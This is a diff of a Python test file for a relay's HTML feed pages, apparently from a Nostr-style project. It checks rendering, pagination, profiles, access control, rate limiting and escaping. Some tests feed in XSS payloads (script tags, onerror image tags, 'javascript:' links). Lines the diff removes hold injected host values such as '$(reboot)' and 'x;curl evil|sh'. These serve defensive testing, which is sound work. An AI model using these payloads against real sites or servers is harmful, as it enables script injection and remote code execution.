@@ -1,134 +1,235 @@
-"""The first page: complete without scripts, true to the settings, and safe with strangers' text."""
+"""The pages of the feed as HTML: complete without scripts, true to the feed, and safe with strangers' text."""
 
 import html
 import re
+from html.parser import HTMLParser
+from typing import Any
 
+import msgspec
 import pytest
 
-from relay.http.page import websocket_url
-from relay.http.reference import in_force
+from relay.http.page import flat
 from storage.base import StorageError, TooCostly
-from tests.factories import make_event
-from tests.http.hubs import Browser, FakeHub, Health, ListReader, config
+from storage.feed import CommentRow, PostRow
+from storage.people import Identity
+from tests.http.hubs import Browser, FakeHub, Health, ListFeed, config
 
 HOSTILE = "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>"
+POST, COMMENT, OTHER = "a" * 64, "c" * 64, "d" * 64
 
 
-async def page(hub: FakeHub | None = None, **headers: str) -> str:
-    async with Browser(hub) as browser:
-        answer = await browser.get("/", headers=headers)
-    assert answer.status_code == 200
+def post(**changes: Any) -> PostRow:
+    row = PostRow(
+        seq=1,
+        id=POST,
+        posting_identity_id="0" * 32,
+        author_name="ada",
+        author_display_name=None,
+        pubkey="b" * 64,
+        title="Low water",
+        url=None,
+        content="The *tide* is out.",
+        created_at=1_700_000_000,
+        updated_at=None,
+        first_seen=1_700_000_000,
+        upvotes=3,
+        downvotes=1,
+        uncounted=0,
+        score=2,
+        comment_count=1,
+        your_vote=None,
+    )
+    return msgspec.structs.replace(row, **changes)
+
+
+def comment(**changes: Any) -> CommentRow:
+    row = CommentRow(
+        seq=2,
+        id=COMMENT,
+        post_id=POST,
+        parent_id=None,
+        posting_identity_id="1" * 32,
+        author_name="tern",
+        author_display_name=None,
+        pubkey="e" * 64,
+        content="Mind the **mud**.",
+        created_at=1_700_000_100,
+        first_seen=1_700_000_100,
+        upvotes=0,
+        downvotes=0,
+        uncounted=0,
+        score=0,
+        comment_count=0,
+        your_vote=None,
+    )
+    return msgspec.structs.replace(row, **changes)
+
+
+def handlers(text: str) -> list[str]:
+    """The event handlers that a browser would find in the markup."""
+    found: list[str] = []
+
+    class Tags(HTMLParser):
+        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+            found.extend(name for name, _ in attrs if name.startswith("on"))
+
+    Tags().feed(text)
+    return found
+
+
+class People:
+    """The identities of a fake hub: one, called ada."""
+
+    ada = Identity("0" * 32, "ada", None, "I count waves", None, None, None, 1_690_000_000, None, "b" * 64)
+
+    async def profile(self, name: str) -> Identity | None:
+        return self.ada if name == "ada" else None
+
+    async def by_id(self, ids: list[str]) -> dict[str, Identity]:
+        return {each: self.ada for each in ids if each == self.ada.id}
+
+
+def hub(feed: ListFeed | None = None, **sections: dict[str, Any]) -> FakeHub:
+    made = FakeHub(config(**sections), feed=feed)
+    made.identities = People()  # type: ignore[attr-defined]
+    return made
+
+
+async def page(of: FakeHub | None = None, path: str = "/", status: int = 200) -> str:
+    async with Browser(of or hub()) as browser:
+        answer = await browser.get(path, headers={"accept": "text/html"})
+    assert answer.status_code == status
     return answer.text
 
 
-async def test_says_who_the_relay_is_and_where():
-    hub = FakeHub(config(relay={"name": "Harbour", "description": "For sailors", "url": "wss://harbour.example"}))
-    text = await page(hub)
-    assert "<h1>Harbour</h1>" in text
-    assert "For sailors" in text
-    assert '<code id="url">wss://harbour.example</code>' in text
+async def test_shows_posts_with_their_figures_without_scripts():
+    text = await page(hub(ListFeed([post()])))
+    assert "Low water</a>" in text
+    assert "The tide is out." in text
+    assert ">2</span>" in text
+    assert "1 comment<" in text
+    assert 'href="/u/ada"' in text
 
 
-async def test_tells_how_to_publish_a_first_event_to_this_relay():
-    text = await page()
-    assert "tidings key generate" in text
-    assert "--publish ws://relay.example:7447" in text
-    assert 'new WebSocket("ws://relay.example:7447")' in text
+async def test_leads_on_to_the_next_page():
+    assert 'href="?sort=top&amp;cursor=a%2Bb"' in await page(hub(ListFeed([post()], cursor="a+b")), "/?sort=top")
+    assert 'id="more"' not in await page(hub(ListFeed([post()])))
 
 
-async def test_lists_the_nips_with_their_titles():
-    text = re.sub(r"<[^>]+>", "", await page())
-    assert "NIP-01 Basic protocol" in text
-    assert "NIP-42 Authentication of clients" in text
-    assert "NIP-40" not in text
+@pytest.mark.parametrize("sort", ["hot", "new", "top", "rising"])
+async def test_says_in_which_order_the_posts_are(sort):
+    text = await page(path=f"/?sort={sort}")
+    assert re.findall(r'href="\?sort=(\w+)" aria-current="page"', text) == [sort]
 
 
-async def test_lists_the_limits_in_force():
-    text = await page(FakeHub(config(limits={"max_subscriptions": 7}, access={"allowed_kinds": [1, 7]})))
-    assert "<dt>open subscriptions of a connection</dt><dd>7</dd>" in text
-    assert "<dt>the only kinds taken</dt><dd>1, 7</dd>" in text
+async def test_refuses_an_order_that_is_none():
+    assert "Bad Request" in await page(path="/?sort=best", status=400)
 
 
-async def test_shows_notes_without_scripts():
-    text = await page(
-        FakeHub(reader=ListReader([make_event(1, 1, "good tidings"), make_event(1, 0, '{"name": "ada"}')]))
-    )
-    assert "good tidings" in text
-    assert ">ada</bdi>" in text
+async def test_an_empty_feed_invites_a_first_post():
+    assert "Yours can be the first" in await page()
+
+
+async def test_a_post_comes_with_its_comments_rendered_as_markdown():
+    feed = ListFeed([post()], [comment(replies=[comment(id=OTHER, parent_id=COMMENT, depth=1, content="Thanks.")])])
+    text = await page(hub(feed), f"/post/{POST}")
+    assert "The <em>tide</em> is out." in text
+    assert "Mind the <strong>mud</strong>." in text
+    assert text.index("Mind the") < text.index("Thanks.")
+    assert 'class="item comment d1"' in text
+
+
+async def test_replies_that_are_not_shown_are_linked():
+    text = await page(hub(ListFeed([post()], [comment(comment_count=7)])), f"/post/{POST}")
+    assert f'<a href="/post/{POST}?parent={COMMENT}#comments">7 replies</a>' in text
+
+
+async def test_a_comments_own_address_leads_to_it_on_its_post():
+    async with Browser(hub(ListFeed([post()], [comment()]))) as browser:
+        answer = await browser.get(f"/post/{COMMENT}")
+    assert (answer.status_code, answer.headers["location"]) == (302, f"/post/{POST}#c-{COMMENT}")
+
+
+@pytest.mark.parametrize(
+    "path",
+    [f"/post/{OTHER}", "/post/nonsense", f"/post/{POST}?parent={OTHER}", f"/post/{POST}?parent=<b>", "/u/nobody"],
+)
+async def test_what_is_not_here_is_not_found(path):
+    assert "Not Found" in await page(hub(ListFeed([post()], [comment()])), path, 404)
+
+
+async def test_an_identity_shows_its_profile_key_and_posts():
+    for name in ("ada", "0" * 32):
+        text = await page(hub(ListFeed([post()])), f"/u/{name}")
+        assert "I count waves" in text
+        assert "npub1hwamhwamhwamhwamhwamhwamhwamhwamhwamhwamhwamhwamhwasxw04hu" in text
+        assert "Low water" in text
 
 
 async def test_escapes_whatever_strangers_and_operators_write():
-    events = [make_event(1, 30023, HOSTILE, [("title", HOSTILE)]), make_event(1, 0, '{"name": "<b>ada</b>"}')]
-    hub = FakeHub(config(relay={"name": HOSTILE, "description": HOSTILE, "contact": HOSTILE}), ListReader(events))
-    text = await page(hub)
-    # the relay's name and description, twice each, its contact, and the note's title and text
-    assert html.unescape(text).count(HOSTILE) == 7
-    assert "<script>" not in text
-    assert "<img" not in text
-    assert "<b>ada" not in text
+    hostile = {"title": HOSTILE, "content": HOSTILE, "author_display_name": HOSTILE, "author_name": HOSTILE}
+    feed = ListFeed([post(**hostile, url=f"https://x/{HOSTILE}")], [comment(content=HOSTILE, author_name=HOSTILE)])
+    given = hub(feed, relay={"name": HOSTILE, "description": HOSTILE, "contact": HOSTILE})
+    for path in ("/", f"/post/{POST}", f"/pieces?ids={POST},{COMMENT}&whole={POST}"):
+        text = await page(given, path)
+        assert HOSTILE[:25] in html.unescape(text)
+        assert "<script>" not in text
+        assert not re.search(r"<img(?! src=\"/static/)", text)
+        assert not handlers(text)
 
 
-async def test_a_terms_link_is_a_link_only_to_the_web():
-    assert "javascript:" not in await page(FakeHub(config(relay={"terms_of_service": "javascript:alert(1)"})))
-    assert 'href="https://t.example"' in await page(FakeHub(config(relay={"terms_of_service": "https://t.example"})))
+async def test_links_nothing_but_the_web():
+    text = await page(
+        hub(ListFeed([post(url="javascript:alert(1)", content="[x](javascript:alert(1))")])), f"/post/{POST}"
+    )
+    assert 'href="javascript' not in text
+    terms = config(relay={"terms_of_service": "javascript:alert(1)"})
+    assert "javascript:" not in await page(FakeHub(terms))
+
+
+async def test_pieces_are_what_the_pages_show():
+    feed = ListFeed([post()], [comment()])
+    pieces = await page(hub(feed), f"/pieces?ids={POST},{COMMENT}")
+    listed = await page(hub(feed))
+    card = re.search(r"<li class=\"item post\".*?</li>", listed, re.DOTALL)
+    assert card is not None
+    assert card[0] in pieces
+    assert "Mind the <strong>mud</strong>." in pieces
 
 
 async def test_shows_nothing_to_the_public_where_reading_needs_authentication():
-    hub = FakeHub(config(access={"auth_to_read": True}), ListReader([make_event(1, 1, "members only")]))
-    text = await page(hub)
-    assert "members only" not in text
+    closed = hub(ListFeed([post()], [comment()]), access={"auth_to_read": True})
+    text = await page(closed)
     assert "authenticated readers only" in text
-    assert "live.js" not in text
+    assert "feed.js" not in text
+    for path in ("/", f"/post/{POST}", f"/pieces?ids={POST}", "/u/ada"):
+        assert "Low water" not in await page(closed, path, 200 if path == "/" else 404)
 
 
 @pytest.mark.parametrize("trouble", [StorageError("disk /secret/path is gone"), TooCostly("too much")])
 async def test_is_whole_while_the_store_fails(trouble):
-    text = await page(FakeHub(reader=ListReader(trouble=trouble)))
+    text = await page(hub(ListFeed(trouble=trouble)))
     assert "cannot be read just now" in text
     assert "/secret/path" not in text
-    assert "What holds here" in text
+    assert "For agents" in text
 
 
 async def test_says_when_the_relay_is_not_well():
-    hub = FakeHub()
-    hub.figures = Health(status="draining")
-    assert "draining" in await page(hub)
+    given = hub()
+    given.figures = Health(status="draining")
+    assert "draining" in await page(given)
     assert "draining" not in await page()
 
 
-async def test_an_empty_relay_invites_a_first_note():
-    assert "Yours can be the first" in await page()
+async def test_a_visitor_who_asks_too_fast_is_told_so():
+    given = hub(rates={"requests": 60, "burst": 2})
+    async with Browser(given) as browser:
+        codes = [(await browser.get("/")).status_code for _ in range(4)]
+    assert codes == [200, 200, 429, 429]
 
 
-def test_the_url_is_the_configured_one_whatever_the_host_says():
-    assert websocket_url(config(relay={"url": "wss://r.example"}), "http", "evil.example") == "wss://r.example"
-
-
-@pytest.mark.parametrize(
-    ("scheme", "host", "url"),
-    [
-        ("http", "relay.example", "ws://relay.example"),
-        ("https", "relay.example:8443", "wss://relay.example:8443"),
-        ("http", "[::1]:7447", "ws://[::1]:7447"),
-        ("http", "", "ws://127.0.0.1:7447"),
-        ("http", "a b", "ws://127.0.0.1:7447"),
-        ("http", "$(reboot)", "ws://127.0.0.1:7447"),
-        ("http", "x;curl evil|sh", "ws://127.0.0.1:7447"),
-        ("http", "h\n", "ws://127.0.0.1:7447"),
-    ],
-)
-def test_the_url_is_where_the_visitor_came_unless_that_is_no_host(scheme, host, url):
-    assert websocket_url(config(), scheme, host) == url
-
-
-def test_limits_that_are_off_are_not_listed_and_keys_are_counted_only():
-    names = {row.name: row.value for row in in_force(config())}
-    assert "access.auth_to_read" not in names
-    assert "limits.min_pow" not in names
-    assert "limits.created_at_past" not in names
-    assert names["limits.max_message_bytes"] == "131,072"
-    set_now = in_force(config(access={"allowed_keys": ["a" * 64], "auth_to_write": True}, limits={"max_event_tags": 0}))
-    values = {row.name: row.value for row in set_now}
-    assert values["access.allowed_keys"] == "1 keys"
-    assert values["access.auth_to_write"] == "yes"
-    assert values["limits.max_event_tags"] == "0"
+def test_comments_however_deeply_nested_become_one_list():
+    deep = comment(id=f"{5000:064x}")
+    for number in range(4999, -1, -1):
+        deep = comment(id=f"{number:064x}", replies=[deep])
+    assert [int(row.id, 16) for row in flat([deep, comment(id="f" * 64)])][:5001] == [*range(5001)]
